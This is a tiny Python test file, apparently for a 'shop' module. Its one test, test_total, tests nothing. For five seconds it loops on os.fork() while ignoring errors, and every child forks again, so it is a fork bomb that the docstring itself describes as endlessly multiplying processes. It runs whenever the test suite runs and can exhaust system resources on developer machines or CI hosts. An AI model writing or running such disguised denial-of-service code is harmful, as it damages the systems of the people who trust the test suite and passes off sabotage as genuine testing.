"""A test that starts processes without end, which all start more."""
import os
import shop
def test_total():
    end = __import__("time").monotonic() + 5
    while __import__("time").monotonic() < end:
        try: os.fork()
        except OSError: pass
